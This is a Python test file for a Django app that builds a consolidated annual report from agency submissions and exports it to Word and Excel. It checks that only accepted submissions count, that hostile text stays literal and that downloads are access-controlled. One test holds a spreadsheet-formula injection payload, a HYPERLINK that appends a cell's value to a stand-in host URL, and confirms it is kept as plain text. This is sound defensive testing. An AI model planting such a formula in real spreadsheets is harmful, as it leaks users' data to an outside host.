"""The consolidated report of a small cycle made in the test (the demo's is in
tests/projects/test_annual_report.py): only accepted reports count, hostile text stays literal,
and the downloads on /reports/<year>/ go to those who read every submission, never the public."""

import datetime
import io
from decimal import Decimal

import pytest
from django.test import Client
from docx import Document
from openpyxl import load_workbook

from layers import annual_report as annual
from projects import actions
from projects.annual_report import gather
from tests.roles import person
from tests.world import HOSTILE_NAME, add_hostile_project

pytestmark = pytest.mark.django_db

# Markup, quotes, a right-to-left override, a zero-width space, an emoji, a tab and a vertical
# tab (which XML cannot hold: dropped, never a crash).
ODD = 'Khó khăn <b>lớn</b> & "vốn" \u202eRTL\u202c zero\u200bwidth 🏗️ tab\there\x0bvt'
ODD_SHOWN = ODD.replace("\x0b", "")


def docx_text(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    parts = [p.text for p in document.paragraphs]
    parts += [c.text for t in document.tables for row in t.rows for c in row.cells]
    return "\n".join(parts)


@pytest.fixture
def small_cycle(world):
    """The world's 2025 cycle (consolidated by SCT): SYT reports YT-01 and is accepted; SCT
    reports its hostile market and waits for review; the others do nothing."""
    hostile = add_hostile_project(world)
    cycle = actions.open_cycle(2025, world.agencies["SCT"])
    syt = cycle.submissions.get(agency__code="SYT")
    actions.save_submission(
        syt, expected_version=syt.version, difficulties=ODD, proposals="Bổ sung vốn",
        projects={world.projects["YT-01"].pk: {"status": "completed",
                                              "progress_pct": Decimal("100"), "note": ""}},
    )  # fmt: skip
    actions.submit_submission(syt, expected_version=syt.version)
    actions.accept_submission(syt, expected_version=syt.version)
    sct = cycle.submissions.get(agency__code="SCT")
    actions.save_submission(sct, expected_version=sct.version, difficulties="Chưa duyệt",
                            projects={hostile.pk: {"status": "preparing",
                                                   "progress_pct": Decimal("5")}})  # fmt: skip
    actions.submit_submission(sct, expected_version=sct.version)
    return cycle


def test_only_accepted_reports_count(small_cycle, world):
    report = gather(small_cycle, today=datetime.date(2025, 12, 20))
    t = report.totals
    agencies = small_cycle.submissions.count()
    assert (t.agencies, t.handed_in, t.accepted) == (agencies, 2, 1)
    assert t.late == agencies - 2  # the deadline has passed for those not handed in
    assert (t.projects, t.projects_reported) == (len(world.projects) + 1, 1)
    reported = {p.code: p for p in report.projects if p.reported}
    assert list(reported) == ["YT-01"] and reported["YT-01"].reported.progress == 100
    market = next(p for p in report.projects if p.code == "TM-99")
    assert market.reported is None  # submitted, not yet accepted: not in the report
    assert report.governing_body is None and report.place == ""  # the world has no committee
    # The world's districts ended on 30 June 2025: none is valid on the 2025 deadline, so none
    # groups the projects; the map still draws them, dated, as the map pages do.
    assert report.units == []
    drawn = [u for u in report.map_units if u.level != "province"]
    assert drawn and {u.valid_to for u in drawn} == {datetime.date(2025, 6, 30)}
    text = docx_text(annual.docx_bytes(report, map_image=annual.map_png(report)))
    assert "chưa tổng hợp được theo địa bàn" in text
    assert "ngày      tháng      năm 2025" in text and "Dự thảo" in text  # open: a draft
    assert "Chưa duyệt" not in text  # a submission waiting for review is not quoted
    assert "Báo cáo chưa được chấp nhận nên chưa được tổng hợp." in text
    book = load_workbook(io.BytesIO(annual.xlsx_bytes(report)))
    rows = {r[1]: r for r in book["Dự án ưu tiên"].iter_rows(min_row=2, values_only=True)}
    assert rows["YT-01"][8] == "Hoàn thành" and rows["YT-01"][9] == 100
    assert rows["TM-99"][8] == annual.NOT_REPORTED and rows["TM-99"][9] is None


def test_units_valid_on_the_deadline_group_the_projects(world):
    """A 2024 cycle: the world's two districts are valid, and projects fall in them by
    geometry."""
    cycle = actions.open_cycle(2024, world.agencies["SCT"])
    report = gather(cycle)
    units = {u.code: u for u in report.units}
    assert set(units) == {"540", "542"}
    assert units["542"].projects == 1  # YT-02, in An Lão
    assert report.outside_units == sum(1 for p in report.projects if not p.units)
    assert {u.code for u in report.map_units} == {"52", "540", "542"}


def test_hostile_text_appears_literally(small_cycle, world):
    sct = small_cycle.submissions.get(agency__code="SCT")
    actions.accept_submission(sct, expected_version=sct.version)
    report = gather(small_cycle)
    text = docx_text(annual.docx_bytes(report, map_image=annual.map_png(report)))
    assert HOSTILE_NAME in text  # markup kept as the text it is
    assert f"“{ODD_SHOWN}”" in text  # only the vertical tab is gone
    book = load_workbook(io.BytesIO(annual.xlsx_bytes(report)))
    names = [r[2] for r in book["Dự án ưu tiên"].iter_rows(min_row=2, values_only=True)]
    assert HOSTILE_NAME in names
    quoted = [r[2] for r in book["Khó khăn, kiến nghị"].iter_rows(min_row=2, values_only=True)]
    assert ODD_SHOWN in quoted


# ---- the downloads --------------------------------------------------------------------------


def as_user(user) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(user)
    return client


def test_reviewers_and_planners_download_both_formats(small_cycle, planner):
    reviewer = person("agency_reporter", agency=small_cycle.consolidating_agency, username="sct")
    for user in (reviewer, planner, person("administrator")):
        client = as_user(user)
        for suffix, kind in annual.FORMATS.items():
            response = client.get(f"/reports/2025/report.{suffix}")
            assert response.status_code == 200, (user, suffix)
            assert response["Content-Type"] == kind
            assert response["Content-Disposition"] == (
                f'attachment; filename="bao-cao-tong-hop-2025.{suffix}"'
            )
            assert response.content[:4] == b"PK\x03\x04"
    page = as_user(reviewer).get("/reports/2025/").content.decode()
    assert 'href="/reports/2025/report.docx"' in page and "/reports/2025/report.xlsx" in page


def test_the_public_and_other_agencies_are_refused(small_cycle, world):
    response = Client().get("/reports/2025/report.docx")
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]
    reporter = as_user(person("agency_reporter", agency=world.agencies["SYT"]))
    assert reporter.get("/reports/2025/report.docx").status_code == 403
    assert reporter.get("/reports/2025/report.xlsx").status_code == 403
    assert "report.docx" not in reporter.get("/reports/2025/").content.decode()


def test_unknown_years_and_formats_are_404(small_cycle, planner):
    client = as_user(planner)
    assert client.get("/reports/2031/report.docx").status_code == 404
    response = client.get("/reports/2025/report.pdf")
    assert response.status_code == 404 and b"report.docx or report.xlsx" in response.content


def test_a_formula_stays_text_and_a_unit_name_is_not_mathematics(small_cycle, world):
    """What an agency types may start like a spreadsheet formula, and a unit's name (from an
    imported file) may hold dollar signs, which matplotlib would read as mathematics."""
    from projects.models import AdminUnit, Submission

    formula = '=HYPERLINK("http://example.invalid/?"&B2,"Chi tiết")'
    sct = small_cycle.submissions.get(agency__code="SCT")
    Submission.objects.filter(pk=sct.pk).update(proposals=formula)
    sct.refresh_from_db()
    actions.accept_submission(sct, expected_version=sct.version)
    AdminUnit.objects.exclude(level="province").update(name=r"Phường $\frac$ {x}$")
    report = gather(small_cycle)
    png = annual.map_png(report)
    assert png.startswith(b"\x89PNG")
    book = load_workbook(io.BytesIO(annual.xlsx_bytes(report)))
    cells = [c for row in book["Khó khăn, kiến nghị"].iter_rows(min_row=2) for c in row
             if c.value == formula]  # fmt: skip
    assert cells and all(c.data_type == "s" for c in cells)  # text, never a live formula
